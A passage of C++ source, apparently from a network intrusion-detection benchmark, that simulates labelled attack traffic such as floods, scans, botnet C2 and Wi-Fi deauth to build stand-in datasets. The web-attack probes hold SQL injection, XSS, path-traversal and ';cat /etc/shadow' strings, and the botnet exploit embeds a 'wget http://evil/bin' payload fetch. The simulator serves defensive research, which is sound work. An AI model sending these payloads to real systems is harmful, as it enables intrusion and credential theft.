  Sim sim(seed_of("P4"));
  const BenignStyle st = camera_net_style();
  const double dur = 180.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  in_both_regions(dur, 0.2, 0.3, [&](double t0, double d) {
    attack_ssdp_flood(sim, t0, d, sim.wan_ip(), sim.lan_ip(st, 2), 10.0);
  });
  in_both_regions(dur, 0.6, 0.3, [&](double t0, double d) {
    attack_fuzzing(sim, t0, d, sim.wan_ip(), sim.lan_ip(st, 3), 5.0);
  });
  return sim.finish("P4", "Kitsune SSDP flood + fuzzing", Granularity::kPacket);
}

}  // namespace

const std::vector<DatasetInfo>& dataset_inventory() {
  static const std::vector<DatasetInfo> kInventory = {
      {"F0", "CICIDS2017 Tuesday", Granularity::kConnection, "FTP/SSH brute force"},
      {"F1", "CICIDS2017 Wednesday", Granularity::kConnection, "DoS (Hulk, Slowloris, GoldenEye), Heartbleed"},
      {"F2", "CICIDS2017 Thursday", Granularity::kConnection, "Web attack, infiltration"},
      {"F3", "CICIDS2019 01-11", Granularity::kConnection, "Reflection/SYN/UDP DDoS"},
      {"F4", "CTU-IoT 1-1 (Mirai)", Granularity::kConnection, "Mirai scan + C2 + flood"},
      {"F5", "CTU-IoT 20-1 (Torii)", Granularity::kConnection, "Torii stealthy C2"},
      {"F6", "CTU-IoT 3-1 (Muhstik)", Granularity::kConnection, "Port scan + exploit"},
      {"F7", "CTU-IoT 7-1 (Hajime)", Granularity::kConnection, "Telnet scan + C2"},
      {"F8", "CTU-IoT 34-1 (Mirai)", Granularity::kConnection, "Heavy Mirai flood"},
      {"F9", "CTU-IoT 8-1 (Hakai)", Granularity::kConnection, "Exploit + UDP flood"},
      {"P0", "IEEE IoT network intrusion", Granularity::kPacket, "Mirai scan, SYN flood, HTTP flood, ARP MITM, OS scan"},
      {"P1", "Kitsune Mirai", Granularity::kPacket, "Mirai scan + C2 + flood"},
      {"P2", "AWID3 (802.11)", Granularity::kPacket, "Deauth, evil twin"},
      {"P3", "Kitsune SYN DoS", Granularity::kPacket, "SYN flood"},
      {"P4", "Kitsune SSDP flood + fuzzing", Granularity::kPacket, "SSDP flood, fuzzing"},
  };
  return kInventory;
}

std::vector<std::string> all_dataset_ids() {
  std::vector<std::string> out;
  for (const auto& d : dataset_inventory()) out.push_back(d.id);
  return out;
}

std::vector<std::string> connection_dataset_ids() {
  std::vector<std::string> out;
  for (const auto& d : dataset_inventory()) {
    if (d.granularity == Granularity::kConnection) out.push_back(d.id);
  }
  return out;
}

std::vector<std::string> packet_dataset_ids() {
  std::vector<std::string> out;
  for (const auto& d : dataset_inventory()) {
    if (d.granularity == Granularity::kPacket) out.push_back(d.id);
  }
  return out;
}

Dataset make_dataset(const std::string& id, double scale) {
  if (id == "F0") return build_f0(scale);
  if (id == "F1") return build_f1(scale);
  if (id == "F2") return build_f2(scale);
  if (id == "F3") return build_f3(scale);
  if (id == "F4") return build_f4(scale);
  if (id == "F5") return build_f5(scale);
  if (id == "F6") return build_f6(scale);
  if (id == "F7") return build_f7(scale);
  if (id == "F8") return build_f8(scale);
  if (id == "F9") return build_f9(scale);
  if (id == "P0") return build_p0(scale);
  if (id == "P1") return build_p1(scale);
  if (id == "P2") return build_p2(scale);
  if (id == "P3") return build_p3(scale);
  if (id == "P4") return build_p4(scale);
  assert(false && "unknown dataset id");
  return Dataset{};
}

const Dataset& dataset_cache(const std::string& id) {
  static std::map<std::string, Dataset> cache;
  static std::mutex mu;
  std::lock_guard<std::mutex> lock(mu);
  auto it = cache.find(id);
  if (it == cache.end()) it = cache.emplace(id, make_dataset(id)).first;
  return it->second;
}

}  // namespace lumen::trace
