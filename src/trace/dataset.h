// Dataset model for the benchmarking suite.
//
// A Dataset is a labeled packet capture plus metadata describing (i) the
// granularity at which its ground-truth labels are defined (the property
// §2.1 of the paper shows governs which algorithms can faithfully run on
// it), and (ii) the attack families it contains (used by the per-attack
// heatmap of Fig. 5).
#pragma once

#include <set>
#include <string>
#include <vector>

#include "netio/packet.h"

namespace lumen::trace {

/// Classification granularity, ordered fine -> coarse. A classifier of
/// granularity g can be faithfully evaluated on a dataset labeled at
/// granularity g' >= g (labels propagate down), never the other way.
enum class Granularity : uint8_t { kPacket = 0, kUniFlow = 1, kConnection = 2 };

const char* granularity_name(Granularity g);

/// Attack families found across the 15 stand-in datasets.
enum class AttackType : uint8_t {
  kNone = 0,
  kDosHulk,
  kDosSlowloris,
  kDosGoldenEye,
  kHeartbleed,
  kBruteForce,
  kWebAttack,
  kInfiltration,
  kDdosReflection,
  kSynFlood,
  kUdpFlood,
  kPortScan,
  kOsScan,
  kMiraiScan,
  kMiraiFlood,
  kMiraiC2,
  kToriiC2,
  kBotnetExploit,
  kMitmArp,
  kDot11Deauth,
  kDot11EvilTwin,
  kSsdpFlood,
  kFuzzing,
  kMaxValue,
};

const char* attack_name(AttackType a);

struct Dataset {
  std::string id;       // e.g. "F0", "P2"
  std::string standin;  // the real-world dataset this one stands in for
  Granularity label_granularity = Granularity::kConnection;
  netio::Trace trace;
  // Labels are aligned with the ORIGINAL capture order (the order packets
  // were generated/captured in, before parse_trace skipped any malformed
  // frames). Look them up through trace.view[pos].index — label_at /
  // attack_at below — never by view position directly. When nothing was
  // skipped the two coincide.
  std::vector<uint8_t> pkt_label;   // 0/1 per original packet
  std::vector<uint8_t> pkt_attack;  // AttackType per original packet

  /// True when packets carry application metadata rich enough for
  /// PDML-style extraction (only the IEEE-IoT stand-in in our suite).
  bool has_app_metadata = false;

  bool is_dot11() const { return trace.link == netio::LinkType::kIeee80211; }

  /// Ground-truth label/attack for the packet at view position `pos`,
  /// routed through the original capture index so skipped frames never
  /// shift the alignment. Unlabeled packets read as benign.
  uint8_t label_at(size_t pos) const {
    const uint32_t ci = trace.view[pos].index;
    return ci < pkt_label.size() ? pkt_label[ci] : 0;
  }
  uint8_t attack_at(size_t pos) const {
    const uint32_t ci = trace.view[pos].index;
    return ci < pkt_attack.size() ? pkt_attack[ci] : 0;
  }

  size_t packets() const { return trace.view.size(); }
  size_t malicious_packets() const {
    size_t n = 0;
    for (size_t i = 0; i < trace.view.size(); ++i) n += label_at(i);
    return n;
  }

  std::set<AttackType> attack_types() const {
    std::set<AttackType> out;
    for (size_t i = 0; i < trace.view.size(); ++i) {
      const uint8_t a = attack_at(i);
      if (a != 0) out.insert(static_cast<AttackType>(a));
    }
    return out;
  }
};

}  // namespace lumen::trace
