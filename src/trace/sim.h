// The traffic simulator behind the benchmarking suite's stand-in datasets.
//
// Sim accumulates timestamped labeled frames (built with netio::builder so
// they are byte-accurate), then sorts and parses them into a Dataset. On top
// of the low-level emit() it provides reusable building blocks: full TCP
// sessions (handshake, data, teardown), UDP exchanges, and the benign IoT
// device behaviours (cameras, plugs, thermostats, hubs) whose "constrained
// normal behaviour" is the premise of IoT anomaly detection.
#pragma once

#include <string>

#include "common/rng.h"
#include "netio/builder.h"
#include "trace/dataset.h"

namespace lumen::trace {

/// Knobs that differentiate dataset families (CICIDS-like enterprise vs
/// CTU-like IoT lab vs Kitsune-like camera network). Varying these creates
/// the domain shift that breaks cross-dataset generalization in the paper.
struct BenignStyle {
  double iat_scale = 1.0;      // multiplies inter-session gaps
  double size_scale = 1.0;     // multiplies payload sizes
  double w_http = 1.0;         // service mix weights
  double w_dns = 1.0;
  double w_mqtt = 1.0;
  double w_ntp = 0.5;
  double w_tls = 1.0;
  double w_telnet = 0.0;       // some IoT labs carry benign telnet
  uint8_t device_ttl = 64;
  uint16_t lan_prefix = 0xc0a8;  // 192.168/16 by default
  int host_base = 10;            // first LAN host number (device 0)
};

class Sim {
 public:
  explicit Sim(uint64_t seed,
               netio::LinkType link = netio::LinkType::kEthernet)
      : rng_(seed), link_(link) {}

  Rng& rng() { return rng_; }

  /// Deterministic MAC derived from an IPv4 address.
  static netio::MacAddr mac_for(uint32_t ip);

  /// Record one frame.
  void emit(double ts, netio::Bytes frame, int label, AttackType attack);

  size_t emitted() const { return events_.size(); }

  // ------------------------------------------------------------ building
  // blocks (all return the time at which the interaction finished)

  struct TcpSessionSpec {
    uint32_t client = 0, server = 0;
    uint16_t sport = 0, dport = 80;  // sport 0 = random ephemeral
    int data_pkts = 4;               // client data segments
    double payload_mu = 5.0;         // lognormal(mu, sigma) payload bytes
    double payload_sigma = 0.6;
    double iat_mu = -4.0;            // lognormal gap between segments (sec)
    double iat_sigma = 0.8;
    double resp_ratio = 1.5;         // server bytes per client byte
    netio::AppProto app = netio::AppProto::kHttp;
    bool complete = true;            // FIN teardown when true
    bool rejected = false;           // server answers SYN with RST
    bool silent_server = false;      // SYN gets no answer at all (S0)
    int label = 0;
    AttackType attack = AttackType::kNone;
    uint8_t client_ttl = 64;
    uint8_t server_ttl = 64;
  };

  double tcp_session(double t0, const TcpSessionSpec& spec);

  /// One UDP request and (optionally) one response.
  double udp_exchange(double t0, uint32_t client, uint32_t server,
                      uint16_t sport, uint16_t dport,
                      const netio::Bytes& request, size_t response_len,
                      int label = 0, AttackType attack = AttackType::kNone,
                      uint8_t client_ttl = 64);

  /// Common benign idioms.
  double dns_lookup(double t0, uint32_t client, uint32_t resolver,
                    const std::string& qname);
  double ntp_sync(double t0, uint32_t client, uint32_t server);
  double mqtt_keepalive(double t0, uint32_t client, uint32_t broker);

  /// Seed the LAN with `duration` seconds of benign IoT behaviour from
  /// `n_devices` devices. Returns the approximate packet budget consumed.
  void benign_iot_traffic(double t0, double duration, int n_devices,
                          const BenignStyle& style);

  /// Sort by time, parse, and package into a Dataset.
  Dataset finish(std::string id, std::string standin, Granularity g,
                 bool has_app_metadata = false);

  // Address helpers: LAN device ip, cloud/server ips, ephemeral ports.
  uint32_t lan_ip(const BenignStyle& style, int host) const;
  uint32_t wan_ip();
  uint16_t ephemeral_port();

 private:
  struct Event {
    double ts;
    netio::Bytes frame;
    uint8_t label;
    uint8_t attack;
  };

  Rng rng_;
  netio::LinkType link_;
  std::vector<Event> events_;
};

}  // namespace lumen::trace
