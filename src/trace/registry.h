// The benchmarking suite's dataset registry: 10 connection-level datasets
// (F0-F9) and 5 packet-level datasets (P0-P4), mirroring Table 3 of the
// paper (each CICIDS day / CTU scenario / Kitsune capture is its own
// dataset). Generation is deterministic per id; `scale` shrinks the capture
// duration for fast tests.
#pragma once

#include <vector>

#include "trace/dataset.h"

namespace lumen::trace {

struct DatasetInfo {
  std::string id;
  std::string standin;
  Granularity granularity;
  std::string attack_summary;
};

/// Static inventory (no generation).
const std::vector<DatasetInfo>& dataset_inventory();

std::vector<std::string> all_dataset_ids();
std::vector<std::string> connection_dataset_ids();
std::vector<std::string> packet_dataset_ids();

/// Build a dataset from scratch. Unknown ids abort via assert in debug and
/// return an empty dataset otherwise.
Dataset make_dataset(const std::string& id, double scale = 1.0);

/// Process-wide cache of full-scale datasets (generated on first access).
const Dataset& dataset_cache(const std::string& id);

}  // namespace lumen::trace
