#include "trace/attacks.h"

#include <cmath>

namespace lumen::trace {

using namespace lumen::netio;

void attack_http_flood(Sim& sim, double t0, double duration, uint32_t attacker,
                       uint32_t victim, double rate, AttackType tag) {
  double t = t0;
  Rng& rng = sim.rng();
  while (t < t0 + duration) {
    Sim::TcpSessionSpec s;
    s.client = attacker;
    s.server = victim;
    s.dport = 80;
    s.data_pkts = 1 + static_cast<int>(rng.below(2));
    s.payload_mu = 5.2;
    s.payload_sigma = 0.3;
    s.iat_mu = -7.0;  // machine-gun segments
    s.iat_sigma = 0.4;
    s.resp_ratio = 0.3;  // server strains to answer
    s.app = AppProto::kHttp;
    s.complete = rng.bernoulli(0.6);
    s.label = 1;
    s.attack = tag;
    sim.tcp_session(t, s);
    t += rng.exponential(rate);
  }
}

void attack_slowloris(Sim& sim, double t0, double duration, uint32_t attacker,
                      uint32_t victim, int conns) {
  Rng& rng = sim.rng();
  const MacAddr amac = Sim::mac_for(attacker);
  const MacAddr vmac = Sim::mac_for(victim);
  for (int c = 0; c < conns; ++c) {
    const uint16_t sport = sim.ephemeral_port();
    double t = t0 + rng.uniform(0.0, duration * 0.2);
    uint32_t seq = static_cast<uint32_t>(rng.next());
    // Handshake, then dribble tiny header fragments, never complete.
    sim.emit(t, build_tcp(amac, vmac, attacker, victim, sport, 80,
                          TcpOpts{kSyn, seq, 0, 4096}, {}),
             1, AttackType::kDosSlowloris);
    t += 0.01;
    sim.emit(t, build_tcp(vmac, amac, victim, attacker, 80, sport,
                          TcpOpts{static_cast<uint8_t>(kSyn | kAck), 1000, seq + 1, 16384}, {}),
             1, AttackType::kDosSlowloris);
    t += 0.01;
    seq += 1;
    while (t < t0 + duration) {
      const std::string frag = "X-a: " + std::to_string(rng.below(9999)) + "\r\n";
      sim.emit(t, build_tcp(amac, vmac, attacker, victim, sport, 80,
                            TcpOpts{static_cast<uint8_t>(kPsh | kAck), seq, 1001, 4096},
                            Bytes(frag.begin(), frag.end())),
               1, AttackType::kDosSlowloris);
      seq += static_cast<uint32_t>(frag.size());
      t += rng.uniform(8.0, 15.0);
    }
  }
}

void attack_brute_force(Sim& sim, double t0, double duration,
                        uint32_t attacker, uint32_t victim, uint16_t port,
                        double rate) {
  double t = t0;
  Rng& rng = sim.rng();
  while (t < t0 + duration) {
    Sim::TcpSessionSpec s;
    s.client = attacker;
    s.server = victim;
    s.dport = port;
    s.data_pkts = 2;  // banner + one credential attempt
    s.payload_mu = 3.2;
    s.payload_sigma = 0.2;
    s.iat_mu = -4.5;
    s.resp_ratio = 0.8;
    s.app = port == 21 ? AppProto::kFtp : AppProto::kSsh;
    s.complete = true;
    s.rejected = rng.bernoulli(0.1);  // occasional ban
    s.label = 1;
    s.attack = AttackType::kBruteForce;
    sim.tcp_session(t, s);
    t += rng.exponential(rate);
  }
}

void attack_heartbleed(Sim& sim, double t0, double duration, uint32_t attacker,
                       uint32_t victim, int probes) {
  Rng& rng = sim.rng();
  const MacAddr amac = Sim::mac_for(attacker);
  const MacAddr vmac = Sim::mac_for(victim);
  double t = t0;
  const uint16_t sport = sim.ephemeral_port();
  uint32_t seq = static_cast<uint32_t>(rng.next());
  for (int i = 0; i < probes && t < t0 + duration; ++i) {
    // Tiny heartbeat request...
    Bytes req = payload_tls_appdata(8, 0x01);
    req[0] = 0x18;  // heartbeat content type
    sim.emit(t, build_tcp(amac, vmac, attacker, victim, sport, 443,
                          TcpOpts{static_cast<uint8_t>(kPsh | kAck), seq, 77, 8192}, req),
             1, AttackType::kHeartbleed);
    seq += static_cast<uint32_t>(req.size());
    t += rng.uniform(0.05, 0.2);
    // ...answered with a bleed of server memory.
    Bytes resp = payload_tls_appdata(1200 + rng.below(200), 0x41);
    resp[0] = 0x18;
    sim.emit(t, build_tcp(vmac, amac, victim, attacker, 443, sport,
                          TcpOpts{static_cast<uint8_t>(kPsh | kAck), 77, seq, 16384}, resp),
             1, AttackType::kHeartbleed);
    t += rng.uniform(0.2, 1.0);
  }
}

void attack_web(Sim& sim, double t0, double duration, uint32_t attacker,
                uint32_t victim, double rate) {
  double t = t0;
  Rng& rng = sim.rng();
  static const char* kProbes[] = {
      "/login.php?user=admin'--&pass=x",
      "/search?q=<script>alert(1)</script>",
      "/index.php?page=../../../../etc/passwd",
      "/cgi-bin/test.cgi?cmd=;cat%20/etc/shadow",
  };
  while (t < t0 + duration) {
    const MacAddr amac = Sim::mac_for(attacker);
    const MacAddr vmac = Sim::mac_for(victim);
    const uint16_t sport = sim.ephemeral_port();
    const std::string uri = std::string(kProbes[rng.below(4)]) + "&r=" +
                            std::to_string(rng.below(100000));
    Sim::TcpSessionSpec s;
    s.client = attacker;
    s.server = victim;
    s.sport = sport;
    s.dport = 80;
    s.data_pkts = 0;
    s.label = 1;
    s.attack = AttackType::kWebAttack;
    const double te = sim.tcp_session(t, s);
    Bytes req = payload_http_request("GET", uri, "victim.local");
    sim.emit(te + 0.01,
             build_tcp(amac, vmac, attacker, victim, sport, 80,
                       TcpOpts{static_cast<uint8_t>(kPsh | kAck),
                               static_cast<uint32_t>(rng.next()), 1, 8192},
                       req),
             1, AttackType::kWebAttack);
    t += rng.exponential(rate);
  }
}

void attack_infiltration(Sim& sim, double t0, double duration,
                         uint32_t inside_host, const BenignStyle& style,
                         int lan_hosts) {
  Rng& rng = sim.rng();
  double t = t0;
  while (t < t0 + duration) {
    // Sweep a LAN neighbour on a service port.
    const uint32_t target = sim.lan_ip(style, static_cast<int>(rng.below(lan_hosts)));
    if (target == inside_host) {
      t += 0.05;
      continue;
    }
    Sim::TcpSessionSpec s;
    s.client = inside_host;
    s.server = target;
    s.dport = static_cast<uint16_t>(rng.bernoulli(0.5) ? 445 : 139);
    s.data_pkts = 0;
    s.silent_server = rng.bernoulli(0.5);
    s.rejected = !s.silent_server;
    s.label = 1;
    s.attack = AttackType::kInfiltration;
    sim.tcp_session(t, s);
    t += rng.exponential(4.0);
  }
}

void attack_syn_flood(Sim& sim, double t0, double duration, uint32_t victim,
                      uint16_t port, double rate, AttackType tag) {
  Rng& rng = sim.rng();
  const MacAddr vmac = Sim::mac_for(victim);
  double t = t0;
  while (t < t0 + duration) {
    // Spoofed source: random address, random port, TTL far from local hosts.
    const uint32_t src = static_cast<uint32_t>(rng.next());
    const MacAddr smac = Sim::mac_for(src);
    Ipv4Opts ip;
    ip.ttl = static_cast<uint8_t>(30 + rng.below(40));
    sim.emit(t,
             build_tcp(smac, vmac, src, victim, sim.ephemeral_port(), port,
                       TcpOpts{kSyn, static_cast<uint32_t>(rng.next()), 0,
                               static_cast<uint16_t>(1024 + rng.below(4096))},
                       {}, ip),
             1, tag);
    if (rng.bernoulli(0.2)) {  // victim manages an occasional RST
      sim.emit(t + 0.002,
               build_tcp(vmac, smac, victim, src, port, 1024,
                         TcpOpts{static_cast<uint8_t>(kRst | kAck), 0, 0, 0}, {}),
               1, tag);
    }
    t += rng.exponential(rate);
  }
}

void attack_udp_flood(Sim& sim, double t0, double duration, uint32_t attacker,
                      uint32_t victim, double rate, AttackType tag) {
  Rng& rng = sim.rng();
  double t = t0;
  while (t < t0 + duration) {
    Bytes pay(64 + rng.below(900));
    for (auto& b : pay) b = static_cast<uint8_t>(rng.below(256));
    sim.udp_exchange(t, attacker, victim, sim.ephemeral_port(),
                     static_cast<uint16_t>(1024 + rng.below(60000)), pay, 0, 1,
                     tag);
    t += rng.exponential(rate);
  }
}

void attack_reflection(Sim& sim, double t0, double duration, uint32_t victim,
                       int reflectors, double rate) {
  Rng& rng = sim.rng();
  std::vector<uint32_t> refl;
  for (int i = 0; i < reflectors; ++i) refl.push_back(sim.wan_ip());
  double t = t0;
  while (t < t0 + duration) {
    const uint32_t r = refl[rng.below(refl.size())];
    const bool dns = rng.bernoulli(0.5);
    const uint16_t port = dns ? 53 : 123;
    // Victim-spoofed request...
    Bytes req = dns ? payload_dns_query(static_cast<uint16_t>(rng.below(65536)),
                                        "any.example.com")
                    : payload_ntp_request();
    sim.emit(t, build_udp(Sim::mac_for(victim), Sim::mac_for(r), victim, r,
                          sim.ephemeral_port(), port, req),
             1, AttackType::kDdosReflection);
    // ...and the amplified reply hammering the victim.
    Bytes resp(dns ? 512 + rng.below(2000) : 468);
    for (auto& b : resp) b = static_cast<uint8_t>(rng.below(256));
    sim.emit(t + 0.01, build_udp(Sim::mac_for(r), Sim::mac_for(victim), r,
                                 victim, port, sim.ephemeral_port(), resp),
             1, AttackType::kDdosReflection);
    t += rng.exponential(rate);
  }
}

void attack_port_scan(Sim& sim, double t0, double duration, uint32_t attacker,
                      uint32_t victim, int ports) {
  Rng& rng = sim.rng();
  double t = t0;
  const double step = duration / static_cast<double>(ports);
  for (int p = 0; p < ports && t < t0 + duration; ++p) {
    Sim::TcpSessionSpec s;
    s.client = attacker;
    s.server = victim;
    s.sport = sim.ephemeral_port();
    s.dport = static_cast<uint16_t>(1 + rng.below(10000));
    s.data_pkts = 0;
    s.rejected = rng.bernoulli(0.9);  // most ports closed
    s.silent_server = !s.rejected && rng.bernoulli(0.5);
    s.complete = false;
    s.label = 1;
    s.attack = AttackType::kPortScan;
    sim.tcp_session(t, s);
    t += rng.exponential(1.0 / step);
  }
}

void attack_os_scan(Sim& sim, double t0, double duration, uint32_t attacker,
                    uint32_t victim) {
  Rng& rng = sim.rng();
  const MacAddr amac = Sim::mac_for(attacker);
  const MacAddr vmac = Sim::mac_for(victim);
  double t = t0;
  static const uint8_t kWeirdFlags[] = {
      0x00, kFin, static_cast<uint8_t>(kFin | kPsh | kUrg), kSyn,
      static_cast<uint8_t>(kSyn | kFin)};
  while (t < t0 + duration) {
    if (rng.bernoulli(0.3)) {
      sim.emit(t, build_icmp(amac, vmac, attacker, victim, 8, 0, Bytes(16, 0)),
               1, AttackType::kOsScan);
      sim.emit(t + 0.01,
               build_icmp(vmac, amac, victim, attacker, 0, 0, Bytes(16, 0)), 1,
               AttackType::kOsScan);
    } else {
      sim.emit(t,
               build_tcp(amac, vmac, attacker, victim, sim.ephemeral_port(),
                         static_cast<uint16_t>(1 + rng.below(1024)),
                         TcpOpts{kWeirdFlags[rng.below(5)],
                                 static_cast<uint32_t>(rng.next()), 0, 1024},
                         {}),
               1, AttackType::kOsScan);
    }
    t += rng.exponential(8.0);
  }
}

void attack_mirai_scan(Sim& sim, double t0, double duration,
                       const std::vector<uint32_t>& bots, double rate) {
  Rng& rng = sim.rng();
  double t = t0;
  while (t < t0 + duration) {
    const uint32_t bot = bots[rng.below(bots.size())];
    Sim::TcpSessionSpec s;
    s.client = bot;
    s.server = sim.wan_ip();
    s.dport = rng.bernoulli(0.8) ? 23 : 2323;
    s.data_pkts = 0;
    s.silent_server = rng.bernoulli(0.7);
    s.rejected = !s.silent_server && rng.bernoulli(0.8);
    s.complete = false;
    s.label = 1;
    s.attack = AttackType::kMiraiScan;
    sim.tcp_session(t, s);
    t += rng.exponential(rate);
  }
}

void attack_mirai_c2(Sim& sim, double t0, double duration,
                     const std::vector<uint32_t>& bots, uint32_t c2) {
  Rng& rng = sim.rng();
  for (uint32_t bot : bots) {
    double t = t0 + rng.uniform(0.0, 10.0);
    while (t < t0 + duration) {
      Sim::TcpSessionSpec s;
      s.client = bot;
      s.server = c2;
      s.dport = 48101;
      s.data_pkts = 1;
      s.payload_mu = 2.0;
      s.payload_sigma = 0.2;
      s.app = AppProto::kNone;
      s.label = 1;
      s.attack = AttackType::kMiraiC2;
      sim.tcp_session(t, s);
      t += rng.uniform(20.0, 40.0);
    }
  }
}

void attack_mirai_flood(Sim& sim, double t0, double duration,
                        const std::vector<uint32_t>& bots, uint32_t victim,
                        double rate) {
  Rng& rng = sim.rng();
  double t = t0;
  while (t < t0 + duration) {
    const uint32_t bot = bots[rng.below(bots.size())];
    if (rng.bernoulli(0.5)) {
      const MacAddr bmac = Sim::mac_for(bot);
      const MacAddr vmac = Sim::mac_for(victim);
      sim.emit(t,
               build_tcp(bmac, vmac, bot, victim, sim.ephemeral_port(), 80,
                         TcpOpts{kSyn, static_cast<uint32_t>(rng.next()), 0, 512},
                         {}),
               1, AttackType::kMiraiFlood);
    } else {
      Bytes pay(128 + rng.below(512));
      for (auto& b : pay) b = static_cast<uint8_t>(rng.below(256));
      sim.udp_exchange(t, bot, victim, sim.ephemeral_port(),
                       static_cast<uint16_t>(1024 + rng.below(60000)), pay, 0,
                       1, AttackType::kMiraiFlood);
    }
    t += rng.exponential(rate);
  }
}

void attack_torii_c2(Sim& sim, double t0, double duration,
                     const std::vector<uint32_t>& bots, uint32_t c2,
                     double period) {
  Rng& rng = sim.rng();
  for (uint32_t bot : bots) {
    double t = t0 + rng.uniform(0.0, period);
    while (t < t0 + duration) {
      // Deliberately benign-looking: port 443, modest sizes, human-scale
      // timing with jitter. Only subtle regularity gives it away.
      Sim::TcpSessionSpec s;
      s.client = bot;
      s.server = c2;
      s.dport = 443;
      s.data_pkts = 1 + static_cast<int>(rng.below(2));
      s.payload_mu = 4.6;
      s.payload_sigma = 0.15;  // tighter than real browsing
      s.iat_mu = -3.5;
      s.resp_ratio = 1.1;
      s.app = AppProto::kHttps;
      s.label = 1;
      s.attack = AttackType::kToriiC2;
      sim.tcp_session(t, s);
      t += period * rng.uniform(0.9, 1.1);
    }
  }
}

void attack_botnet_exploit(Sim& sim, double t0, double duration,
                           uint32_t attacker, uint32_t victim) {
  Rng& rng = sim.rng();
  const MacAddr amac = Sim::mac_for(attacker);
  const MacAddr vmac = Sim::mac_for(victim);
  double t = t0;
  while (t < t0 + duration) {
    // Exploit POST with an oversized body...
    const uint16_t sport = sim.ephemeral_port();
    Sim::TcpSessionSpec s;
    s.client = attacker;
    s.server = victim;
    s.sport = sport;
    s.dport = rng.bernoulli(0.5) ? 80 : 8080;
    s.data_pkts = 0;
    s.label = 1;
    s.attack = AttackType::kBotnetExploit;
    double te = sim.tcp_session(t, s);
    Bytes req = payload_http_request(
        "POST", "/tmUnblock.cgi?cmd=wget%20http://evil/bin", "victim");
    req.insert(req.end(), 600 + rng.below(400), 0x90);
    sim.emit(te + 0.01,
             build_tcp(amac, vmac, attacker, victim, sport, s.dport,
                       TcpOpts{static_cast<uint8_t>(kPsh | kAck),
                               static_cast<uint32_t>(rng.next()), 1, 8192},
                       req),
             1, AttackType::kBotnetExploit);
    // ...followed by the stage-2 download from the loader.
    for (int k = 0; k < 6; ++k) {
      te += rng.uniform(0.02, 0.08);
      Bytes chunk(1200);
      for (auto& b : chunk) b = static_cast<uint8_t>(rng.below(256));
      sim.emit(te,
               build_tcp(amac, vmac, attacker, victim, sport, s.dport,
                         TcpOpts{static_cast<uint8_t>(kPsh | kAck),
                                 static_cast<uint32_t>(rng.next()), 1, 8192},
                         chunk),
               1, AttackType::kBotnetExploit);
    }
    t += rng.exponential(0.3);
  }
}

void attack_mitm_arp(Sim& sim, double t0, double duration,
                     uint32_t attacker_ip, uint32_t gateway_ip,
                     const std::vector<uint32_t>& victims, double rate) {
  Rng& rng = sim.rng();
  const MacAddr amac = Sim::mac_for(attacker_ip);
  double t = t0;
  while (t < t0 + duration) {
    const uint32_t victim = victims[rng.below(victims.size())];
    // Gratuitous reply claiming the gateway's IP lives at the attacker MAC.
    sim.emit(t, build_arp(amac, Sim::mac_for(victim), 2, amac, gateway_ip,
                          Sim::mac_for(victim), victim),
             1, AttackType::kMitmArp);
    t += rng.exponential(rate);
  }
}

void attack_ssdp_flood(Sim& sim, double t0, double duration, uint32_t attacker,
                       uint32_t victim, double rate) {
  Rng& rng = sim.rng();
  double t = t0;
  while (t < t0 + duration) {
    sim.udp_exchange(t, attacker, victim, sim.ephemeral_port(), 1900,
                     payload_ssdp_msearch(), 320 + rng.below(200), 1,
                     AttackType::kSsdpFlood);
    t += rng.exponential(rate);
  }
}

void attack_fuzzing(Sim& sim, double t0, double duration, uint32_t attacker,
                    uint32_t victim, double rate) {
  Rng& rng = sim.rng();
  const MacAddr amac = Sim::mac_for(attacker);
  const MacAddr vmac = Sim::mac_for(victim);
  double t = t0;
  while (t < t0 + duration) {
    Bytes pay(rng.below(256));
    for (auto& b : pay) b = static_cast<uint8_t>(rng.below(256));
    const uint8_t flags = static_cast<uint8_t>(rng.below(64));
    sim.emit(t,
             build_tcp(amac, vmac, attacker, victim, sim.ephemeral_port(),
                       static_cast<uint16_t>(rng.below(65536)),
                       TcpOpts{flags, static_cast<uint32_t>(rng.next()),
                               static_cast<uint32_t>(rng.next()),
                               static_cast<uint16_t>(rng.below(65536))},
                       pay),
             1, AttackType::kFuzzing);
    t += rng.exponential(rate);
  }
}

// ----------------------------------------------------------------- 802.11

void wifi_benign(Sim& sim, double t0, double duration, const MacAddr& ap,
                 int stations) {
  Rng& rng = sim.rng();
  // AP beacons every ~102 ms.
  const Bytes ssid_body = {0x00, 0x07, 'h', 'o', 'm', 'e', 'n', 'e', 't'};
  for (double t = t0; t < t0 + duration; t += 0.1024) {
    sim.emit(t, build_dot11_mgmt(8, ap,
                                 MacAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
                                 ap, ssid_body),
             0, AttackType::kNone);
  }
  // Stations exchange encrypted data frames with the AP.
  for (int s = 0; s < stations; ++s) {
    MacAddr sta{0x02, 0xaa, 0x00, 0x00, 0x00, static_cast<uint8_t>(16 + s)};
    double t = t0 + rng.uniform(0.0, 1.0);
    while (t < t0 + duration) {
      const size_t up = 40 + rng.below(200);
      sim.emit(t, build_dot11_data(sta, ap, ap, up,
                                   static_cast<uint8_t>(rng.below(256))),
               0, AttackType::kNone);
      t += rng.lognormal(-2.5, 0.8);
      const size_t down = 60 + rng.below(800);
      sim.emit(t, build_dot11_data(ap, sta, ap, down,
                                   static_cast<uint8_t>(rng.below(256))),
               0, AttackType::kNone);
      t += rng.exponential(0.8);
    }
  }
}

void attack_dot11_deauth(Sim& sim, double t0, double duration,
                         const MacAddr& ap, int stations, double rate) {
  Rng& rng = sim.rng();
  double t = t0;
  const Bytes reason = {0x00, 0x07};  // class-3 frame from nonassociated STA
  while (t < t0 + duration) {
    MacAddr sta{0x02, 0xaa, 0x00, 0x00, 0x00,
                static_cast<uint8_t>(16 + rng.below(stations))};
    // Forged deauth "from" the AP to the station.
    sim.emit(t, build_dot11_mgmt(12, ap, sta, ap, reason), 1,
             AttackType::kDot11Deauth);
    t += rng.exponential(rate);
  }
}

void attack_dot11_eviltwin(Sim& sim, double t0, double duration,
                           const MacAddr& rogue_ap, double rate) {
  Rng& rng = sim.rng();
  const Bytes ssid_body = {0x00, 0x07, 'h', 'o', 'm', 'e', 'n', 'e', 't'};
  double t = t0;
  while (t < t0 + duration) {
    sim.emit(t, build_dot11_mgmt(8, rogue_ap,
                                 MacAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
                                 rogue_ap, ssid_body),
             1, AttackType::kDot11EvilTwin);
    // Probe responses to lure stations.
    if (rng.bernoulli(0.4)) {
